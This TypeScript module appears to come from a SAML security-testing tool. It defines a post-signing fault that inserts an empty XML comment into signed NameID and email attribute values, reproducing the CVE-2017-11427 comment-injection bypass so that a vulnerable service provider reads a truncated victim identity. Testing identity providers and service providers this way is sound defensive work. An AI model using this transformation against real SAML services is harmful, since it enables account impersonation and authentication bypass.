import type { Element } from '@xmldom/xmldom';
import { z } from 'zod';
import { descendants } from '../../../../lib/xml.ts';
import { ns } from '../../../saml/constants.ts';
import { defineSamlFault } from '../../define.ts';
import { isEmailAttribute } from '../edit-model.ts';
import { editSignedXml } from '../edit-xml.ts';

/**
 * CVE-2017-11427 and its family: exclusive canonicalization drops comments, so a comment
 * added inside a signed value after signing leaves the signature valid. With a signed
 * NameID `victim.suffix`, the text becomes `victim<!---->.suffix`; an SP that reads only
 * the first text node sees `victim`, a correct one still sees `victim.suffix`.
 */
export default defineSamlFault({
  name: 'saml.comment-injection',
  stage: 'post-sign',
  summary: 'Splits a signed NameID "victim…" with a comment after signing (signature stays valid)',
  params: z.object({
    victim: z
      .string()
      .min(1)
      .default('alice@example.com')
      .describe('Prefix of the signed value that a first-text-node reader ends up with'),
    attributes: z
      .boolean()
      .default(true)
      .describe('Also split email attribute values that start with the victim'),
  }),
  apply: (xml, { victim, attributes }) =>
    editSignedXml(xml, (doc) => {
      const targets: Element[] = descendants(doc, 'NameID').filter((e) => e.namespaceURI === ns.assertion);
      if (attributes) {
        for (const attribute of descendants(doc, 'Attribute')) {
          if (isEmailAttribute(attribute.getAttribute('Name') ?? ''))
            targets.push(...descendants(attribute, 'AttributeValue'));
        }
      }
      let split = 0;
      for (const element of targets) {
        const value = element.textContent ?? '';
        if (!value.startsWith(victim) || value.length === victim.length) continue;
        while (element.firstChild) element.removeChild(element.firstChild);
        element.appendChild(doc.createTextNode(victim));
        element.appendChild(doc.createComment(''));
        element.appendChild(doc.createTextNode(value.slice(victim.length)));
        split++;
      }
      if (split === 0) {
        throw new Error(
          `saml.comment-injection: no signed NameID starts with "${victim}" and goes on; assert a NameID such as "${victim}.evil.example" first (saml.nameid)`,
        );
      }
    }),
});
